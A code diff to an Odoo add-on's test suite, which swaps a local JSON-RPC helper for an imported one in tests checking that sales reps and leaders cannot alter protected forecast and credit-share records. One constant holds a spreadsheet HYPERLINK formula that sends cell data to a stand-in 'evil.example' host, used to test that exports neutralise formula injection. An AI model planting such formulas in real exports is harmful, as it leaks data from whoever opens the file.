@@ -4,13 +4,13 @@ drifted. Each test takes the path of the user who would try it."""
 
 import csv
 import io
-import json
 from datetime import date, datetime
 
 import openpyxl
 from psycopg2.errors import UniqueViolation
 
 from odoo import Command
+from odoo.addons.sales_compliance.tests.test_gate_rpc import RpcError, call_kw
 from odoo.exceptions import UserError, ValidationError
 from odoo.tests import HttpCase, tagged
 from odoo.tools import mute_logger
@@ -22,34 +22,6 @@ from .test_commission import FEB, JAN, MAR, CommissionCase
 
 APR = (date(2025, 4, 1), date(2025, 4, 30))
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Rep A")'
-
-
-class RpcMixin:
-    """JSON-RPC as the web client sends it, for the user logged in with ``authenticate``."""
-
-    def call_kw(self, model, method, args, kwargs=None):
-        response = self.url_open(
-            f"/web/dataset/call_kw/{model}/{method}",
-            data=json.dumps(
-                {
-                    "jsonrpc": "2.0",
-                    "method": "call",
-                    "params": {
-                        "model": model,
-                        "method": method,
-                        "args": args,
-                        "kwargs": kwargs or {},
-                    },
-                }
-            ),
-            headers={"Content-Type": "application/json"},
-        )
-        return response.json()
-
-    def assert_refused(self, reply, text):
-        error = reply.get("error")
-        self.assertTrue(error, f"refused: {reply}")
-        self.assertIn(text, error["data"]["message"])
 
 
 # ----------------------------------------------------------------------
@@ -209,7 +181,7 @@ class TestForecastPeriod(ForecastCase):
 
 
 @tagged("post_install", "-at_install")
-class TestForecastRpc(ForecastCase, HttpCase, RpcMixin):
+class TestForecastRpc(ForecastCase, HttpCase):
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
@@ -219,12 +191,13 @@ class TestForecastRpc(ForecastCase, HttpCase, RpcMixin):
     def test_over_rpc_a_leader_cannot_adjust_their_own_forecast(self):
         commit = self.commit_of(self.leader)
         self.authenticate("tgt_leader", "tgt_leader_secret")
-        reply = self.call_kw(
-            "sales.forecast.commit",
-            "write",
-            [commit.ids, {"adjusted_commit": 90000, "adjustment_reason": "I know best"}],
-        )
-        self.assert_refused(reply, "never their own")
+        with self.assertRaisesRegex(RpcError, "never their own"):
+            call_kw(
+                self,
+                "sales.forecast.commit",
+                "write",
+                [commit.ids, {"adjusted_commit": 90000, "adjustment_reason": "I know best"}],
+            )
         commit.invalidate_recordset()
         self.assertFalse(commit.adjusted_by_id)
 
@@ -234,12 +207,13 @@ class TestForecastRpc(ForecastCase, HttpCase, RpcMixin):
             {"adjusted_commit": 20000, "adjustment_reason": "Deal Y is lost"}
         )
         self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
-        reply = self.call_kw(
-            "sales.forecast.commit",
-            "write",
-            [commit.ids, {"date_from": "2025-04-01", "date_to": "2025-04-30"}],
-        )
-        self.assert_refused(reply, "ask your team leader")
+        with self.assertRaisesRegex(RpcError, "ask your team leader"):
+            call_kw(
+                self,
+                "sales.forecast.commit",
+                "write",
+                [commit.ids, {"date_from": "2025-04-01", "date_to": "2025-04-30"}],
+            )
         commit.invalidate_recordset()
         self.assertEqual((commit.date_from, commit.date_to), MAR)
         self.assertEqual(commit.final_commit, 20000)
@@ -249,7 +223,7 @@ class TestForecastRpc(ForecastCase, HttpCase, RpcMixin):
 # Credit shares over RPC
 # ----------------------------------------------------------------------
 @tagged("post_install", "-at_install")
-class TestCreditShareRpc(CreditShareCase, HttpCase, RpcMixin):
+class TestCreditShareRpc(CreditShareCase, HttpCase):
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
@@ -258,10 +232,10 @@ class TestCreditShareRpc(CreditShareCase, HttpCase, RpcMixin):
     def test_over_rpc_a_rep_cannot_move_their_share_onto_a_colleagues_order(self):
         share = self.mine.credit_share_ids
         self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
-        reply = self.call_kw(
-            "sales.credit.share", "write", [share.ids, {"order_id": self.colleagues.id}]
-        )
-        self.assert_refused(reply, "stays on its opportunity or order")
+        with self.assertRaisesRegex(RpcError, "stays on its opportunity or order"):
+            call_kw(
+                self, "sales.credit.share", "write", [share.ids, {"order_id": self.colleagues.id}]
+            )
         self.env.invalidate_all()
         self.assertEqual(share.order_id, self.mine)
         self.assertFalse(self.colleagues.credit_share_ids)
@@ -297,7 +271,7 @@ class TestSpreadsheetEscaping(TargetsCase):
 
 
 @tagged("post_install", "-at_install")
-class TestStatementExportInjection(CommissionCase, HttpCase, RpcMixin):
+class TestStatementExportInjection(CommissionCase, HttpCase):
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
@@ -308,8 +282,7 @@ class TestStatementExportInjection(CommissionCase, HttpCase, RpcMixin):
 
     def test_a_reps_formula_name_reaches_the_managers_export_as_text(self):
         self.authenticate("tgt_rep_a", "tgt_rep_a_secret")
-        reply = self.call_kw("res.users", "write", [self.rep_a.ids, {"name": FORMULA}])
-        self.assertTrue(reply.get("result"), reply)
+        self.assertTrue(call_kw(self, "res.users", "write", [self.rep_a.ids, {"name": FORMULA}]))
         self.env.invalidate_all()
         self.assertEqual(self.rep_a.name, FORMULA)
         statement = self.statement.with_user(self.manager)
